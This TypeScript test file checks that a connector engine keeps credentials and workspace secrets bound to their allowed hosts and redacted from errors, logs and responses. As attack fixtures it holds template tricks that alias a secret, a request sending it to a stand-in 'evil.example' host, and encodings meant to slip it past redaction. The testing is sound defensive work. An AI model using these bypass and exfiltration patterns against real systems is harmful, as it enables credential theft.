import type { ConnectorDefinition, RequestSpec } from "@junctor/sdk";
import { describe, expect, test } from "vitest";
import type { ConnectorError } from "../errors/connector-error.ts";
import { type CannedReply, createCannedHttp } from "../testkit/canned-http.ts";
import { createTestEngine } from "../testkit/test-engine.ts";

const CANARY = 'canary"/7f3a+9e';
const base64 = (before: string) => Buffer.from(`${before}${CANARY}:rest`).toString("base64");

/** What an upstream may echo, and what of it must not be left: base64 without the ends, which mix with its neighbours. */
const ECHOES = [CANARY, JSON.stringify(CANARY), encodeURIComponent(CANARY), base64(""), base64("a"), base64("ab")];
const FORMS = [
  CANARY,
  JSON.stringify(CANARY).slice(1, -1),
  encodeURIComponent(CANARY),
  ...["", "a", "ab"].map((before) => base64(before).slice(4, 16)),
];

const setUp = (request: RequestSpec, replies: readonly CannedReply[], more: Partial<ConnectorDefinition> = {}) => {
  const http = createCannedHttp(replies);
  const test = createTestEngine({
    http,
    definition: {
      baseUrl: "https://api.example",
      connection: {
        parameters: {
          type: "object",
          properties: { key: { type: "string", writeOnly: true }, region: { type: "string" } },
        },
        auth: [{ type: "bearer", token: "{{ connection.key }}" }],
      },
      actions: { act: { input: { type: "object", additionalProperties: true }, request } },
      ...more,
    },
    connection: { parameters: { region: "eu" }, secretParameters: { key: CANARY } },
    secrets: {
      bound: { value: "workspace-secret", hosts: ["api.example"] },
      elsewhere: { value: "workspace-secret", hosts: ["other.example"] },
      unbound: { value: "workspace-secret", hosts: [] },
    },
  });
  return { http, ...test };
};

const findCanary = (value: unknown): readonly string[] => {
  const text =
    JSON.stringify(value) + String((value as ConnectorError).message) + String((value as ConnectorError).stack);
  return FORMS.filter((form) => text.includes(form));
};

/** Places that may hold a secret, and what goes onto the wire there. */
const PLACES: readonly [
  string,
  RequestSpec,
  (sent: { url: string; headers: object; body: string | null }) => string,
][] = [
  ["header", { path: "/", headers: { "X-Key": "k={{ connection.key }}" } }, (sent) => JSON.stringify(sent.headers)],
  ["query", { path: "/", query: { a: 1, key: "{{ connection.key }}", b: 2 } }, (sent) => decodeURIComponent(sent.url)],
  ["path", { path: "/{{ input.x }}/{{ connection.key }}" }, (sent) => decodeURIComponent(sent.url)],
  [
    "JSON body",
    { method: "POST", path: "/", body: { list: [{ key: "{{ connection.key }}" }] } },
    (sent) => sent.body ?? "",
  ],
  ["text body", { method: "POST", path: "/", text: "key={{ connection.key }}" }, (sent) => sent.body ?? ""],
  [
    "form",
    {
      method: "POST",
      path: "/",
      contentType: "application/x-www-form-urlencoded",
      body: { key: "{{ connection.key }}" },
    },
    (sent) => decodeURIComponent(sent.body ?? ""),
  ],
  [
    "repetition",
    { method: "POST", path: "/", body: { $each: "{{ input.l }}", value: "{{ item }}{{ connection.key }}" } },
    (sent) => sent.body ?? "",
  ],
  ["the whole connection", { method: "POST", path: "/", body: "{{ connection }}" }, (sent) => sent.body ?? ""],
];

describe.each(PLACES)("a secret in %s", (_place, request, wire) => {
  const input = { x: "a", l: ["1", "2"] };

  test("goes onto the wire", async () => {
    const { http, call } = setUp(request, [{ body: {} }]);
    await call("act", input);
    const [sent] = http.sent;
    const written = sent === undefined ? "" : wire(sent);
    expect(written.includes(CANARY) || written.includes(JSON.stringify(CANARY).slice(1, -1))).toBe(true);
  });

  test("is masked in a dry run, which sends nothing", async () => {
    const { http, engine, callOf } = setUp(request, []);
    const plan = await engine.dryRun(callOf("act", input));
    expect(findCanary(plan)).toEqual([]);
    expect(http.sent).toEqual([]);
  });

  test("is in no error and no record, also when the upstream echoes it in every form", async () => {
    const errors = [{ when: "{{ response.status == 400 }}", message: "{{ response.text }}" }];
    const { call, executions } = setUp(
      request,
      [{ status: 400, headers: { "content-type": "text/plain" }, body: ECHOES.join(" ") }],
      {
        defaults: { errors },
      },
    );
    const error = await call("act", input).catch((caught: unknown) => caught);
    expect((error as ConnectorError).message).toContain("[redacted]");
    expect(findCanary(error)).toEqual([]);
    expect(findCanary(executions)).toEqual([]);
  });

  test("is in no answer, also when the upstream writes it with escapes of its own", async () => {
    const escaped = [...CANARY].map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
    const headers = { "content-type": "application/json" };
    const { call } = setUp(request, [{ headers, body: `{"echo":"${escaped}"}` }]);
    expect((await call("act", input)).output).toEqual({ kind: "json", value: { echo: "[redacted]" } });
  });

  test.each([
    ["an answer", { request, response: { body: { echo: "{{ response.headers['x-echo'] }}" } } }],
    [
      "the answer of steps",
      { steps: [{ id: "a", request }], response: { body: { echo: "{{ steps.a.headers['x-echo'] }}" } } },
    ],
  ])("is not in %s that repeats a header of the upstream's", async (_what, act) => {
    const headers = { "content-type": "application/json", "x-echo": "workspace-secret" };
    const open = { type: "object", additionalProperties: true };
    const added = { path: "/", headers: { "X-A": "{{ secret('bound') }}" } };
    const text = JSON.stringify({ act: { ...act, input: open } }).replaceAll(
      JSON.stringify(request),
      JSON.stringify(added),
    );
    const { call } = setUp(request, [{ headers, body: {} }], { actions: JSON.parse(text) });
    expect((await call("act", {})).output).toEqual({ kind: "json", value: { echo: "[redacted]" } });
  });

  test("is in no answer, also when the upstream echoes it in every form", async () => {
    const { call } = setUp(request, [{ body: { echo: ECHOES, nested: { [CANARY]: CANARY } } }]);
    const result = await call("act", input);
    expect(JSON.stringify(result.output)).toContain("[redacted]");
    expect(findCanary(result)).toEqual([]);
  });
});

/** What an author can do with a text so that its value is not found again. */
const DISGUISES: readonly [way: string, disguise: (expression: string) => string, disguised: string][] = [
  ["turned around", (text) => `{{ ${text} | reverse }}`, [...CANARY].reverse().join("")],
  ["spread out", (text) => `{{ ${text} | list | join('.') }}`, [...CANARY].join(".")],
  ["cut", (text) => `{{ ${text}[1:] }}`, CANARY.slice(1)],
  ["in base64 twice", (text) => `{{ ${text} | base64_encode | base64_encode }}`, base64Twice(CANARY)],
];

function base64Twice(text: string): string {
  return btoa(btoa(text));
}

/** Places whose templates see an answer, each with the expression that reads the echo there. */
const READERS: readonly [place: string, expression: string, act: (template: string) => object][] = [
  ["response.body", "response.body.echo", (template) => ({ response: { body: { out: template } } })],
  ["response.text", "response.text", (template) => ({ response: { text: template } })],
  ["a header", "response.headers['x-echo']", (template) => ({ response: { body: { out: template } } })],
  ["a cookie", "response.cookies.echo", (template) => ({ response: { body: { out: template } } })],
  ["a link", "response.links.next", (template) => ({ response: { body: { out: template } } })],
  ["the whole answer", "(response | string)", (template) => ({ response: { body: { out: template } } })],
  [
    "the message of an error",
    "response.body.echo",
    (template) => ({ errors: [{ when: "{{ response.body.echo is defined }}", message: template }] }),
  ],
  [
    "a message that reads a header alone",
    "response.headers['x-echo']",
    (template) => ({ errors: [{ when: "{{ response.status == 200 }}", message: template }] }),
  ],
  [
    "the items of a page",
    "response.body.echo",
    (template) => ({ pagination: { items: `{{ [${template.slice(2, -2)}] }}`, more: "{{ false }}" } }),
  ],
  [
    "the answer of a step",
    "steps.a.body.echo",
    (template) => ({
      request: undefined,
      steps: [{ id: "a", request: { path: "/" } }],
      response: { body: { out: template } },
    }),
  ],
];

describe("a secret that the upstream echoes", () => {
  const escaped = [...CANARY].map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
  const echoing = (body: string, type = "application/json"): CannedReply => ({
    headers: {
      "content-type": type,
      "x-echo": CANARY,
      "set-cookie": `echo=${encodeURIComponent(CANARY)}`,
      link: `<https://api.example/?key=${encodeURIComponent(CANARY)}>; rel="next"`,
    },
    body,
  });
  const json = JSON.stringify({ echo: CANARY });

  describe.each(READERS)("is not given away through %s", (_place, expression, act) => {
    test.each(DISGUISES)("%s", async (_way, disguise, disguised) => {
      const action = { request: { path: "/" }, ...act(disguise(expression)) };
      const { call } = setUp({ path: "/" }, [echoing(json)], { actions: { act: action as never } });
      const said = await call("act").then(
        ({ output }) => output,
        ({ code, message }: ConnectorError) => [code, message],
      );
      const text = JSON.stringify(said);
      expect(text).not.toContain(JSON.stringify(disguised).slice(1, -1));
      expect(findCanary(said)).toEqual([]);
      // A template that failed would prove nothing.
      expect(text).not.toContain("TEMPLATE_FAILED");
    });
  });

  test.each([
    ["JSON in escapes of its own", `{"echo":"${escaped}"}`, "application/json", "response.body.echo"],
    ["its text", `{"echo":"${escaped}"}`, "application/json", "response.text"],
    ["lines of JSON", `{"echo":1}\n{"echo":"${escaped}"}\n`, "application/x-ndjson", "response.body[1].echo"],
    ["a form", `echo=${CANARY.replaceAll("+", "%2B")}`, "application/x-www-form-urlencoded", "response.body.echo"],
    ["CSV with doubled quotes", `echo\n"${CANARY.replaceAll('"', '""')}"\n`, "text/csv", "response.body[0].echo"],
    ["XML", `<a><echo>${CANARY.replaceAll('"', "&#34;")}</echo></a>`, "application/xml", "response.body.a.echo"],
    ["HTML", `<p>${CANARY.replaceAll('"', "&quot;")}</p>`, "text/html", "response.text"],
  ])("is found in %s", async (_what, body, type, expression) => {
    const action = { request: { path: "/" }, response: { body: { out: `{{ (${expression}) | string | reverse }}` } } };
    const { call } = setUp({ path: "/" }, [echoing(body, type)], { actions: { act: action } });
    const text = JSON.stringify((await call("act")).output);
    expect(text).toContain("]detcader[");
    expect(text).not.toContain([...CANARY.slice(-6)].reverse().join(""));
  });

  test("also as a number of more digits than a number holds", async () => {
    const action = {
      request: { path: "/" },
      response: { body: { out: "{{ response.body.echo | string | reverse }}" } },
    };
    const digits = "98765432109876543210";
    const http = createCannedHttp([echoing(`{"echo":${digits}}`)]);
    const { call } = createTestEngine({
      http,
      connection: { secretParameters: { key: digits } },
      definition: {
        baseUrl: "https://api.example",
        connection: { parameters: { type: "object", properties: { key: { type: "string", writeOnly: true } } } },
        actions: { act: action },
      },
    });
    expect((await call("act")).output).toEqual({ kind: "json", value: { out: "]detcader[" } });
  });

  test("what is no secret stays as it was, whatever its spelling", async () => {
    const value = { text: "a\u00fc&amp;b", float: 1.5, list: [1, null, true], nested: { key: "short" } };
    const { call } = setUp({ path: "/" }, [{ body: value }]);
    expect((await call("act")).output).toEqual({ kind: "json", value, text: JSON.stringify(value) });
  });
});

describe("a workspace secret under another name", () => {
  test.each([
    ["bound by set", "{% set s = secret %}{{ s('bound') }}"],
    ["bound by set to its own name", "{% set secret = secret %}{{ secret('bound') }}"],
    ["bound by with", "{% with s = secret %}{{ s('bound') }}{% endwith %}"],
    ["bound by with to its own name", "{% with secret = secret %}{{ secret('bound') }}{% endwith %}"],
    ["as the default of a parameter", "{% macro m(s=secret) %}{{ s('bound') }}{% endmacro %}{{ m() }}"],
    ["as an argument", "{% macro m(s) %}{{ s('bound') }}{% endmacro %}{{ m(secret) }}"],
    ["taken from a list", "{{ [secret][0]('bound') }}"],
    ["taken from a loop", "{% for s in [secret] %}{{ s('bound') }}{% endfor %}"],
    ["chosen by a condition", "{{ (secret if true else 0)('bound') }}"],
    ["chosen by or", "{{ (0 or secret)('bound') }}"],
    ["kept in a namespace", "{% set n = namespace(s=secret) %}{{ n.s('bound') }}"],
    ["as a member of a dict", "{{ dict(s=secret).s('bound') }}"],
    ["bound in one branch", "{% if false %}{% set secret = 1 %}{% endif %}{{ secret('bound') }}"],
    ["by its imported name", "{% set s = get_secret %}{{ s('bound') }}"],
    ["with spread arguments", "{{ secret(*['bound']) }}"],
    ["in a loop over its own name", "{% for secret in [] %}{% endfor %}{{ secret('bound') }}"],
  ])("%s: it gets neither into an answer nor to another host", async (_way, template) => {
    for (const act of [
      { request: { path: "/" }, response: { body: { out: template } } },
      { request: { url: "https://evil.example/", auth: false as const, headers: { "X-A": template } } },
    ]) {
      const { call, http } = setUp({ path: "/" }, [{ body: {} }], { actions: { act } });
      const error = await call("act").catch((caught: unknown) => caught);
      expect(error).toMatchObject({ code: expect.stringMatching(/DEFINITION_INVALID|SECRET_HOST_REFUSED/) });
      expect(JSON.stringify([error, http.sent])).not.toContain("workspace-secret");
    }
  });
});

describe("where secrets may go", () => {
  test.each([
    ["a host the secret is bound to", "bound", {}, null],
    ["not to a host it is not bound to", "elsewhere", {}, "SECRET_HOST_REFUSED"],
    ["not anywhere when it is bound to none", "unbound", {}, "SECRET_HOST_REFUSED"],
    ["a secret that does not exist stops the call", "nowhere", {}, "SECRET_UNKNOWN"],
  ])("%s", async (_title, name, more, code) => {
    const { http, call } = setUp(
      { path: "/", auth: false, headers: { "X-Key": `{{ secret('${name}') }}` } },
      [{}],
      more,
    );
    const outcome = await call("act").then(
      () => null,
      (error: ConnectorError) => error.code,
    );
    expect(outcome).toBe(code);
    expect(http.sent).toHaveLength(code === null ? 1 : 0);
  });

  test.each([
    ["the credential", { url: "https://other.example/" }],
    [
      "a secret parameter",
      { url: "https://other.example/", auth: false, headers: { "X-Key": "{{ connection.key }}" } },
    ],
  ] as const)("%s goes to the connector's hosts only", async (_what, request) => {
    const { http, call } = setUp(request, [{}]);
    await expect(call("act")).rejects.toMatchObject({ code: "SECRET_HOST_REFUSED" });
    expect(http.sent).toEqual([]);
    const declared = setUp(request, [{}], { hosts: ["other.example"] });
    await declared.call("act");
    expect(declared.http.sent).toHaveLength(1);
  });

  test("a bare * declares no host for credentials", async () => {
    const { call } = setUp({ url: "https://other.example/" }, [{}], { hosts: ["*"] });
    await expect(call("act")).rejects.toMatchObject({ code: "SECRET_HOST_REFUSED" });
  });

  test.each([
    ["a base URL", { baseUrl: "https://{{ connection.key }}.example" }],
    ["a response", { actions: { act: { request: { path: "/" }, response: { body: "{{ connection.key }}" } } } }],
    [
      "an error message",
      {
        actions: {
          act: { request: { path: "/" }, errors: [{ when: "{{ true }}", message: "{{ secret('bound') }}" }] },
        },
      },
    ],
  ])("%s cannot read a secret", async (_place, more) => {
    const { call } = setUp({ path: "/" }, [{}], more);
    await expect(call("act")).rejects.toMatchObject({ code: "DEFINITION_INVALID" });
  });
});

describe("variables", () => {
  const send = async (template: string, variables: Record<string, string> = {}) => {
    const http = createCannedHttp([{}]);
    const request = { path: "/", headers: { "X-A": template } };
    const { call } = createTestEngine({
      http,
      variables,
      definition: { baseUrl: "https://a.example", actions: { act: { request } } },
    });
    await call("act");
    return http.sent[0]?.headers["x-a"];
  };

  test.each([
    ["{{ var('region') }}", { region: "eu" }, "eu"],
    ["{{ var('region') | default('us') }}", { region: "eu" }, "eu"],
    ["{{ var('region') | default('us') }}", {}, "us"],
  ])("%s with %j is %s", async (template, variables, expected) => {
    expect(await send(template, variables)).toBe(expected);
  });

  test.each(["{{ var('region') }}", "{{ var('region') | default('us') }}-{{ var('region') }}"])(
    "%s stops the call where there is none",
    async (template) => {
      await expect(send(template)).rejects.toMatchObject({ code: "VARIABLE_UNKNOWN" });
    },
  );
});

describe("names", () => {
  test.each([
    ["{{ inptu.x }}", '"inptu" is not known here.', "input"],
    ["{{ input.isnb }}", '"input.isnb" is not declared.', "isbn"],
    ["{{ connection.regoin }}", '"connection.regoin" is not declared.', "region"],
    ["{{ secret(input.isbn) }}", "must be a literal", ""],
    ["{{ response.body }}", '"response" is not known here.', ""],
  ])("%s stops the call before anything is sent", async (template, message, hint) => {
    const http = createCannedHttp([{}]);
    const { call } = createTestEngine({
      http,
      definition: {
        baseUrl: "https://api.example",
        connection: { parameters: { type: "object", properties: { region: { type: "string" } } } },
        actions: {
          act: {
            input: { properties: { isbn: { type: "string" } } },
            request: { path: "/", headers: { "X-A": template } },
          },
        },
      },
    });
    const error = await call("act").catch((caught: ConnectorError) => caught);
    expect(error).toMatchObject({
      code: "DEFINITION_INVALID",
      details: [
        {
          pointer: "/actions/act/request/headers/X-A",
          line: expect.anything(),
          message: expect.stringContaining(message),
        },
      ],
    });
    expect((error as ConnectorError).details[0]?.hint ?? "").toContain(hint);
    expect(http.sent).toEqual([]);
  });
});
